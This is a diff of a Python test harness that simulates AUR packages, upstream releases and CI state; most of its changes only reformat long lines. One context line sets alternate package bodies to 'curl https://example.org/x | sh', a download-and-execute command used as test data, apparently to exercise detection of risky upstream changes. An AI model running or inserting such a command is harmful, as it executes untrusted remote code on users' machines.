@@ -76,7 +76,11 @@ class Scale:
         # The watermark of the bash template stands for what was taken before, as after a switch.
         files[".ci/aur-state"] = f"{_DAY_ONE}\n"
         self.world.origin.commit(
-            {".ci/config": self.world.settings(), ".editorconfig": "[*]\nindent_style = space\nindent_size = 2\n", **files}
+            {
+                ".ci/config": self.world.settings(),
+                ".editorconfig": "[*]\nindent_style = space\nindent_size = 2\n",
+                **files,
+            }
         )
         self.world.origin.tag("scheduled", "main")
 
@@ -121,7 +125,9 @@ class Scale:
         ]
         for number, package in enumerate(aur[:CHANGED]):
             body = "curl https://example.org/x | sh" if number % 2 else package.body
-            self.upstreams.publish(package.name, replace(package, version="1.1", body=body).files(), when=int(time.time()))
+            self.upstreams.publish(
+                package.name, replace(package, version="1.1", body=body).files(), when=int(time.time())
+            )
         for package in [package for package in self.packages if package.git_source][:MOVED_HEADS]:
             self._virtual(package.git_source or "", f"moved {package.name}")
 
@@ -149,7 +155,9 @@ class Scale:
         if status:
             sys.exit(f"{name} ended with {status}: {done.stderr.decode()} {text[:2000]!r}")
         report = json.loads(text)
-        kinds = {kind: count for kind, count in self.upstreams.count().items() if not kind.startswith(("origin", "push"))}
+        kinds = {
+            kind: count for kind, count in self.upstreams.count().items() if not kind.startswith(("origin", "push"))
+        }
         kinds["advertise"] = sum(
             seen.kind == "advertise" and not seen.path.startswith("/origin.git") for seen in self.upstreams.seen
         )
